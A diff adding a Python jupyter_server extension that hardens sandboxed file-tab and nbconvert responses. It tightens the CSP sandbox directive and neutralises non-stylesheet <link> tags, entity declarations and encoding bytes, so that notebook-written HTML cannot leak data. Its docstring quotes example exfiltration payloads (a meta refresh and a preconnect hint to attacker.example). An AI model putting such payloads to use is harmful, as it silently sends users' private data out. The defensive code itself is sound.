@@ -1,0 +1,195 @@
+"""Files a sandbox wrote, opened in a browser tab of their own, go nowhere.
+
+Why: JupyterLab's "Open in New Browser Tab" loads a workspace file from
+``/files/…`` as a page of its own, and nbconvert's HTML of a notebook
+(``/nbconvert/html/…``) is one too. jupyter_server confines it with
+``Content-Security-Policy: …; sandbox allow-scripts``: its scripts cannot reach
+the server's API, but they run, and so does the rest of the page. A private
+session's cell writes ``report.html`` holding its data and
+``<meta http-equiv="refresh" content="0;url=https://attacker.example/?d=…">``
+(or ``location = …`` in a script, or ``<link rel="preconnect"
+href="https://<data>.attacker.example">``); the user opens it in a tab and the
+data leaves without a click: the Content-Security-Policy governs fetches, not
+navigation, and Chromium connects for resource hints whatever the policy says.
+
+What this extension does to every response jupyter_server sandboxes (those two
+handlers, and any that add a ``sandbox`` directive), through a Tornado output
+transform (the server's documented hook for rewriting responses):
+
+- the ``sandbox`` directive loses its allowances: no scripts (so no script
+  navigation, and Chromium refuses a sandboxed document's ``<meta>`` refresh),
+  no forms, no popups;
+- in a document the browser parses for elements (HTML, SVG, any XML), every
+  ``<link>`` that is not plainly a stylesheet, icon or page relation is renamed
+  ``<x-link>`` (an element that does nothing), and so are XML stylesheet
+  instructions (XSLT can write new links; a sandboxed page's opaque origin
+  already stops it loading a stylesheet, so this is belt and braces). This is a textual rewrite, not a
+  parse: a parser here that read the document differently from the browser's
+  would let a hint through, while the text ``<link`` is needed for any ``link``
+  element either could see. A link element is kept only when its whole tag
+  matches one plain form (quoted attributes, a literal ``rel`` of
+  :data:`KEPT_RELATIONS`, no character references in it);
+- bytes that let a browser spell ``<link`` in other bytes are removed first:
+  NUL (UTF-16 needs it for every ASCII character) and ESC (ISO-2022-JP's
+  switch), and XML entity declarations are renamed (an entity can spell a tag
+  with character references). Pages in those encodings show garbled; none of
+  this is common in what notebooks write.
+
+Downloads (``?download=1``) are byte-exact: untouched. Interactive HTML (a
+Bokeh or Plotly export) runs in JupyterLab's HTML viewer after "Trust HTML"
+(the user's opt-in). ``SANDBOX_KERNEL_REMOTE_CONTENT=1`` (see
+:mod:`lab_content_policy`) leaves jupyter_server's behaviour as it was.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+from tornado.httputil import HTTPHeaders
+from tornado.web import OutputTransform
+
+#: ``rel`` values a ``<link>`` may keep: fetched, if at all, under the page's
+#: policy (stylesheets, icons) or not fetched (page relations)
+KEPT_RELATIONS = frozenset(
+    {
+        "stylesheet",
+        "icon",
+        "shortcut icon",
+        "apple-touch-icon",
+        "canonical",
+        "next",
+        "prev",
+        "index",
+        "author",
+        "license",
+    }
+)
+#: attributes a kept ``<link>`` may carry besides ``rel``
+_KEPT_ATTRIBUTES = frozenset({"href", "type", "media", "title", "id", "sizes", "crossorigin", "integrity"})
+
+# Any start or end tag whose name is ``link``, with an XML prefix (any bytes a
+# name may hold, non-ASCII ones included) or not.
+_LINK_TAG = re.compile(rb"<(/?)([^\s<>/:=\"']*:)?(link)(?=[\s/>])", re.IGNORECASE)
+_XML_STYLESHEET = re.compile(rb"<\?(xml-stylesheet)", re.IGNORECASE)
+_ENTITY_DECLARATION = re.compile(rb"<!ENTITY", re.IGNORECASE)
+# One attribute of a kept tag: a name, then a value in double or single quotes
+# holding no quote, no angle bracket and no character reference.
+_ATTRIBUTE = re.compile(rb"""[\t\n\f\r ]+([A-Za-z-]+)=(?:"([^"<>&]*)"|'([^'<>&]*)')""")
+_TAG_END = re.compile(rb"[\t\n\f\r ]*/?>")
+_SPELLING_BYTES = re.compile(rb"[\x00\x1b]")
+_XML_TYPES = frozenset({"text/xml", "application/xml", "text/xsl"})
+_HTML_TYPES = frozenset({"text/html"})
+
+
+def tightened_policy(policy: str) -> str:
+    """``policy`` with its ``sandbox`` directive stripped of every allowance."""
+    directives = []
+    for directive in policy.split(";"):
+        name = directive.strip().split(None, 1)[0].lower() if directive.strip() else ""
+        directives.append(" sandbox" if name == "sandbox" else directive)
+    return ";".join(directives)
+
+
+def is_sandboxed(policy: str) -> bool:
+    """Whether ``policy`` has a ``sandbox`` directive."""
+    return any(d.strip().split(None, 1)[0].lower() == "sandbox" for d in policy.split(";") if d.strip())
+
+
+def media_type(content_type: str) -> str:
+    """``text/html`` of ``text/html; charset=UTF-8``."""
+    return content_type.split(";", 1)[0].strip().lower()
+
+
+def is_markup(content_type: str) -> bool:
+    """Whether a browser builds elements from a body of this type."""
+    kind = media_type(content_type)
+    return kind in _HTML_TYPES or kind in _XML_TYPES or kind.endswith("+xml")
+
+
+def _kept_link(body: bytes, start: int) -> int | None:
+    """The end of the plain ``<link …>`` tag at ``start`` (its name's end), or
+    None when the tag is anything else."""
+    position = start
+    seen: dict[bytes, bytes] = {}
+    while True:
+        attribute = _ATTRIBUTE.match(body, position)
+        if attribute is None:
+            break
+        name = attribute.group(1).lower()
+        if name in seen or (name != b"rel" and name.decode() not in _KEPT_ATTRIBUTES):
+            return None
+        seen[name] = attribute.group(2) if attribute.group(2) is not None else attribute.group(3)
+        position = attribute.end()
+    end = _TAG_END.match(body, position)
+    if end is None:
+        return None
+    relation = b" ".join(seen.get(b"rel", b"").lower().split())
+    return end.end() if relation.decode() in KEPT_RELATIONS else None
+
+
+def without_hints(body: bytes) -> bytes:
+    """``body`` as a file tab gets it: NUL and ESC bytes removed, XML entity
+    declarations and stylesheet instructions renamed, and every link tag that
+    is not plainly kept renamed ``x-link`` (end tags too, so XML stays well
+    formed)."""
+    body = _ENTITY_DECLARATION.sub(b"<!x-ENTITY", _SPELLING_BYTES.sub(b"", body))
+    out = bytearray()
+    position = 0
+    for match in _LINK_TAG.finditer(body):
+        closing, prefix, name = match.group(1), match.group(2) or b"", match.group(3)
+        kept = not closing and not prefix and _kept_link(body, match.end()) is not None
+        out += body[position : match.start()]
+        out += match.group(0) if kept else b"<" + closing + prefix + b"x-" + name
+        position = match.end()
+    out += body[position:]
+    return _XML_STYLESHEET.sub(rb"<?x-\1", bytes(out))
+
+
+class FileTabTransform(OutputTransform):
+    """Rewrites the responses jupyter_server sandboxes (see the module)."""
+
+    def __init__(self, request: Any) -> None:
+        super().__init__(request)
+        self._method = request.method
+        self._body: bytearray | None = None
+
+    def transform_first_chunk(
+        self, status_code: int, headers: HTTPHeaders, chunk: bytes, finishing: bool
+    ) -> tuple[int, HTTPHeaders, bytes]:
+        policy = headers.get("Content-Security-Policy", "")
+        if not policy or not is_sandboxed(policy):
+            return status_code, headers, chunk
+        headers["Content-Security-Policy"] = tightened_policy(policy)
+        attachment = headers.get("Content-Disposition", "").strip().lower().startswith("attachment")
+        if status_code != 200 or attachment or not is_markup(headers.get("Content-Type", "")):
+            return status_code, headers, chunk
+        # The body changes length: it is sent whole, once the handler finished.
+        if "Content-Length" in headers:
+            del headers["Content-Length"]
+        if self._method == "HEAD":
+            return status_code, headers, chunk
+        self._body = bytearray(chunk)
+        if not finishing:
+            return status_code, headers, b""
+        body = without_hints(bytes(self._body))
+        headers["Content-Length"] = str(len(body))
+        return status_code, headers, body
+
+    def transform_chunk(self, chunk: bytes, finishing: bool) -> bytes:
+        if self._body is None:
+            return chunk
+        self._body += chunk
+        return without_hints(bytes(self._body)) if finishing else b""
+
+
+def _load_jupyter_server_extension(serverapp: Any) -> None:
+    # First in line: a compressing transform would otherwise hand it gzip bytes.
+    serverapp.web_app.transforms.insert(0, FileTabTransform)
+
+
+def _jupyter_server_extension_points() -> list[dict[str, str]]:
+    return [{"module": "sandbox_kernel.lab_file_tabs"}]
+
+
+__all__ = ["KEPT_RELATIONS", "FileTabTransform", "is_markup", "is_sandboxed", "tightened_policy", "without_hints"]
